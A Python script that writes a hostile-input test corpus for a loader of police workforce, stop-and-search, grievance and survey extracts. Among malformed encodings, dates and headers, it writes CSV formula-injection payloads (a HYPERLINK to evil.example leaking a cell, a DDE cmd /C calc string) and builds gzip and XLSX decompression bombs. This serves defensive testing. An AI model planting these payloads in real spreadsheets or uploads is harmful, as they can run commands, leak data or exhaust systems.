"""Write the hostile corpus that `tests/test_hostile_input.py` loads: files made by an attacker or a careless export.

Run by hand from the repository root after changing a case, and commit what it writes::

    python tests/corpus/hostile/make_hostile.py

`small()` are the committed files, written byte for byte (the test checks this script still writes them). `large()`
are made at test time and never committed: a gzip bomb, an XLSX bomb, 100,000 columns, a megabyte label, a
100,000-character id, random bytes and a password-protected workbook (its encryption is salted, so its bytes differ
on every run). The rows are the good corpus's (`tests/corpus/make_corpus.py`), changed one way per file; dates a
long way off (2099) stand for the future, so the cases hold for decades.
"""
from __future__ import annotations

import gzip
import io
import random
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

from make_corpus import (  # noqa: E402 - the good corpus's rows and writers, reused
    FIXED_TIME, JAN, MISCONDUCT, MISCONDUCT_HEADER, POLICE_UK_HEADER, VICTIM_HEADER, WORKFORCE, WORKFORCE_HEADER,
    GRIEVANCE_HEADER, edit, home_office, HOME_OFFICE_HEADER, person, rows_of, run, utf8, xlsx, _rezip,
)

JAN_NAME = "2018-01-metropolitan-stop-and-search"
SURVEY_HEADER = "Respondent ID,Workforce type,Sex,Ethnicity,Weight,I feel valued,My manager supports me"
SURVEY = ["R0001,Police officer,Female,White British,1.2,Agree,Strongly agree",
          "R0002,Police staff,Male,Indian,0.8,Disagree,Agree"]
GRIEVANCE = [
    "GR-0001,03/07/2018,Police staff,Band C,Met Operations,Westminster,Female,White British,Bullying,Yes,Formal,No,Yes,Not upheld,20/08/2018",
    "GR-0002,11/07/2018,Police officer,Sergeant,Frontline Policing,Hackney,Male,Caribbean,Management action,No,Informal,No,No,Resolved,",
]
VICTIM = ["VS-0001,2018-07-01,Burglary,Very satisfied,Female,White British,35-44,No,,Heterosexual,Camden",
          "VS-0002,2018-07-09,Burglary,Fairly satisfied,Male,Indian,45-54,No,,Heterosexual,Brent"]


def small() -> dict[str, bytes]:
    jan = utf8(POLICE_UK_HEADER, JAN).decode()
    wf = utf8(WORKFORCE_HEADER, WORKFORCE).decode()
    files: dict[str, bytes] = {}

    # Encodings and line endings: all load, as their plain UTF-8 twins do.
    files[f"{JAN_NAME}_utf16le.csv"] = jan.encode("utf-16-le")
    files[f"{JAN_NAME}_utf16be.csv"] = jan.encode("utf-16-be")
    files[f"{JAN_NAME}_cr_only.csv"] = jan.replace("\n", "\r").encode()
    files["workforce_2018Q3_utf16le_cr.csv"] = wf.replace("\n", "\r").encode("utf-16-le")

    # The wrong container, or one no contract reads.
    files["workforce_2018Q3_csv_named.xlsx"] = utf8(WORKFORCE_HEADER, WORKFORCE[:4])
    files["workforce_2018Q3_workbook_named.csv"] = xlsx({"Workforce": rows_of(WORKFORCE_HEADER, WORKFORCE)})
    files["workforce_2018Q3_legacy.xls"] = _legacy_xls(rows_of(WORKFORCE_HEADER, WORKFORCE))

    # Headers: not on row 1, merged, repeated, two for one column, a survey item twice.
    title = [["Workforce extract 2018 Q3 (OFFICIAL-SENSITIVE)"], []]
    files["workforce_2018Q3_header_on_row_3.xlsx"] = xlsx({"Workforce": title + rows_of(WORKFORCE_HEADER, WORKFORCE)})
    pad = "," * WORKFORCE_HEADER.count(",")
    files["workforce_2018Q3_header_on_row_3.csv"] = utf8(f"Workforce extract 2018 Q3{pad}", [pad, WORKFORCE_HEADER,
                                                                                               *WORKFORCE])
    files["workforce_2018Q3_title_above_header.csv"] = utf8("Workforce extract 2018 Q3", ["", WORKFORCE_HEADER,
                                                                                          *WORKFORCE])
    files["staff_survey_2018_values_without_header.csv"] = utf8(  # every cell text: it could pass for a header
        "Respondent ID,Workforce type,Sex,Ethnicity,I feel valued,", ["R0001,Police officer,Female,Indian,Agree,see notes",
                                                                      "R0002,Police staff,Male,Indian,Disagree,"])
    files["workforce_2018Q3_merged_header.xlsx"] = _merged_header()
    files["workforce_2018Q3_formulas.xlsx"] = _formulas()
    files["workforce_2018Q3_two_sex_columns.csv"] = utf8(
        WORKFORCE_HEADER + ",Sex", [row + (",Male" if i % 2 else ",Female") for i, row in enumerate(WORKFORCE)])
    files["workforce_2018Q3_gender_and_sex.csv"] = utf8(WORKFORCE_HEADER + ",Gender",
                                                        [row + ",Male" for row in WORKFORCE])
    files[f"{JAN_NAME}_gender_and_sex.csv"] = utf8(POLICE_UK_HEADER + ",Sex", [row + ",Female" for row in JAN])
    files["staff_survey_2018_item_twice.csv"] = utf8(SURVEY_HEADER + ",I feel valued",
                                                     [row + ",Disagree" for row in SURVEY])
    files["staff_survey_2018_item_spelt_twice.csv"] = utf8(SURVEY_HEADER + ",I feel  valued",
                                                           [row + ",Disagree" for row in SURVEY])

    # Numbers: only finite ones.
    files["workforce_2018Q3_infinite_fte.csv"] = utf8(WORKFORCE_HEADER, [
        person("P0001", fte="inf"), person("P0002", fte="Infinity"), person("P0003", fte="1e400")])
    files["home_office_workforce_infinite_counts.csv"] = utf8(HOME_OFFICE_HEADER, [
        home_office(headcount="Infinity"), home_office(sex="Male", headcount="12", fte="1e400")])
    files["staff_survey_2018_nan_weight.csv"] = utf8(SURVEY_HEADER, [SURVEY[0].replace("1.2", "NaN"), SURVEY[1]])
    files["staff_survey_2018_infinite_weight.csv"] = utf8(SURVEY_HEADER, [SURVEY[0].replace("1.2", "inf"),
                                                                          SURVEY[1].replace("0.8", "-Infinity")])
    files["staff_survey_table_2018_infinite_counts.csv"] = utf8("Item,Characteristic,Group,Agree,Total", [
        "I feel valued,All,All,Infinity,200", "I feel valued,sex,Female,40,1e400"])
    files[f"{JAN_NAME}_infinite_latitude.csv"] = utf8(POLICE_UK_HEADER, [edit(JAN[0], latitude="-inf"), *JAN[1:]])
    files["victim_satisfaction_2018-07_nan_weight.csv"] = utf8(VICTIM_HEADER + ",Weight",
                                                               [VICTIM[0] + ",nan", VICTIM[1] + ",1"])

    # Dates: nothing in the future, nothing after the file's period.
    files["2099-01-metropolitan-stop-and-search.csv"] = utf8(POLICE_UK_HEADER, [
        edit(JAN[0], date="2099-01-01T00:05:00+00:00")])
    files["stop_search_future_search.csv"] = utf8(POLICE_UK_HEADER, [*JAN[:2], edit(JAN[2], date="2099-01-01T00:16:00+00:00")])
    files["misconduct_future_dated.csv"] = utf8(MISCONDUCT_HEADER, [
        MISCONDUCT[0].replace("06/08/2018", "06/08/2099").replace("Written warning,14/12/2018", ","), *MISCONDUCT[1:]])
    files["grievance_closed_in_future.csv"] = utf8(GRIEVANCE_HEADER, [GRIEVANCE[0].replace("20/08/2018", "20/08/2099"),
                                                                      GRIEVANCE[1]])
    files["victim_satisfaction_future_month.csv"] = utf8(VICTIM_HEADER, [VICTIM[0], VICTIM[1].replace("2018-07-09",
                                                                                                      "2099-07-09")])
    files["workforce_2018Q3_left_after_quarter.csv"] = utf8(WORKFORCE_HEADER, [
        person("P0001", left="2018-12-31", reason="Voluntary resignation"), person("P0002", joined="2010-01-04")])
    files["workforce_2099Q1.csv"] = utf8(WORKFORCE_HEADER, [person("P0001")])
    files["workforce_bad_period_column.csv"] = utf8("period," + WORKFORCE_HEADER, [
        "2018Q3," + person("P0001"), "2018Q5," + person("P0002"), "Q3 2018," + person("P0003"), "," + person("P0004"),
        "2099Q1," + person("P0005")])

    # Labels: cleaned and reported, one spelling per label.
    files["workforce_2018Q3_borough_spellings.csv"] = utf8(WORKFORCE_HEADER, [
        person("P0001", bcu="Harrow"), person("P0002", bcu="HARROW"), person("P0003", bcu="Harrow\u200b"),
        person("P0004", bcu=" harrow  "), person("P0005", bcu="Harrow")])
    files[f"{JAN_NAME}_hidden_characters.csv"] = utf8(POLICE_UK_HEADER, [
        edit(JAN[0], policing_operation="Op Caf\u0065\u0301"), edit(JAN[1], policing_operation="Op Caf\u00e9"),
        edit(JAN[2], policing_operation="Op\u00a0Caf\u00e9\u0000"), edit(JAN[3], gender="Ma\u200ble"), *JAN[4:]])
    files["grievance_zero_width_id.csv"] = utf8(GRIEVANCE_HEADER, [GRIEVANCE[0].replace("GR-0001", "\u200b\u200b"),
                                                                   GRIEVANCE[1]])

    # Ids in two files of one extract (each file loads alone; the second repeats the first's case ids).
    files["grievance_2018-07.csv"] = utf8(GRIEVANCE_HEADER, GRIEVANCE)
    files["grievance_2018-08.csv"] = utf8(GRIEVANCE_HEADER, [
        GRIEVANCE[1].replace("11/07/2018", "14/08/2018"), GRIEVANCE[0].replace("GR-0001", "GR-0003")
        .replace("03/07/2018", "01/08/2018").replace("20/08/2018", "")])
    files["misconduct_2018-08.csv"] = utf8(MISCONDUCT_HEADER, MISCONDUCT)
    files["misconduct_2018-09.csv"] = utf8(MISCONDUCT_HEADER, [MISCONDUCT[2].replace("20/08/2018", "03/09/2018")
                                                               .replace("02/10/2018", "")])

    # Formulas in cells a rejected row keeps: written inert, owner-only.
    files["workforce_2018Q3_formula_text.csv"] = utf8(WORKFORCE_HEADER, [
        person("P0001", group='=HYPERLINK("http://evil.example/?"&A2;"click")'), person("P0002", sex="Unspecified",
                                                                                         group="@SUM(1+1)*cmd|' /C calc'!A0"),
        person("P0003", sex="Unspecified", bcu="-2+3")])
    return files


def large(seed: int = 14) -> dict[str, bytes]:
    """Files too big, too random or too salted to commit: made afresh by the test."""
    jan = utf8(POLICE_UK_HEADER, JAN)
    files: dict[str, bytes] = {}
    files["2018-01-metropolitan-stop-and-search_bomb.csv.gz"] = gzip_bomb(400 << 20)
    files["workforce_2018Q3_bomb.xlsx"] = _zip_bomb(300 << 20)
    files["stop_search_100000_columns.csv"] = wide_csv(100_000)
    files["stop_search_header_without_line_end.csv"] = b"a," * 600_000
    files["workforce_2018Q3_megabyte_label.csv"] = utf8(WORKFORCE_HEADER, [person("P0001", group="Frontline " * 100_000)])
    files["grievance_long_id.csv"] = utf8(GRIEVANCE_HEADER, [GRIEVANCE[0].replace("GR-0001", "G" * 100_000), GRIEVANCE[1]])
    files["random_bytes.csv"] = random.Random(seed).randbytes(20_000)
    files["random_bytes.xlsx"] = random.Random(seed + 1).randbytes(20_000)
    files[f"{JAN_NAME}_random_tail.csv"] = jan + random.Random(seed + 2).randbytes(2_000)
    files["workforce_2018Q3_password.xlsx"] = _encrypted(xlsx({"Workforce": rows_of(WORKFORCE_HEADER, WORKFORCE)}))
    return files


def gzip_bomb(size: int) -> bytes:
    """A police.uk header then `size` bytes of line ends: a gzip about 1,000 times smaller than it inflates to
    (deflate's limit), as the issue's 400 KB that became 400 MB."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, compresslevel=9) as stream:
        stream.write((POLICE_UK_HEADER + "\n").encode())
        block = b"\n" * (1 << 20)
        for _ in range(size >> 20):
            stream.write(block)
    return out.getvalue()


def wide_csv(columns: int) -> bytes:
    """A header of `columns` short names and one row of zeros: under a megabyte."""
    return (",".join(f"c{i}" for i in range(columns)) + "\n" + ",".join("0" * columns) + "\n").encode()


def _zip_bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        with book.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(size >> 20):
                sheet.write(b" " * (1 << 20))
    return out.getvalue()


def _merged_header() -> bytes:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx({"Workforce": rows_of(WORKFORCE_HEADER, WORKFORCE)})))
    book["Workforce"].merge_cells("F1:G1")  # 'Sex' over Sex and Ethnicity: G1 loses its header
    return _saved(book)


def _formulas() -> bytes:
    """FTE as formulas, saved by openpyxl, which does not calculate: no value is stored beside them."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx({"Workforce": rows_of(WORKFORCE_HEADER, WORKFORCE)})))
    book["Workforce"]["L2"] = "=1/1"
    book["Workforce"]["L4"] = "=0.3*2"
    return _saved(book)


def _saved(book) -> bytes:
    from datetime import datetime

    book.properties.created = book.properties.modified = datetime(*FIXED_TIME)
    raw = io.BytesIO()
    book.save(raw)
    return _rezip(raw.getvalue())


def _legacy_xls(rows: list[list]) -> bytes:
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Workforce")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    raw = io.BytesIO()
    book.save(raw)
    return raw.getvalue()


def _encrypted(workbook: bytes) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook)).encrypt("stride", out)
    return out.getvalue()


if __name__ == "__main__":
    run(small, HERE)
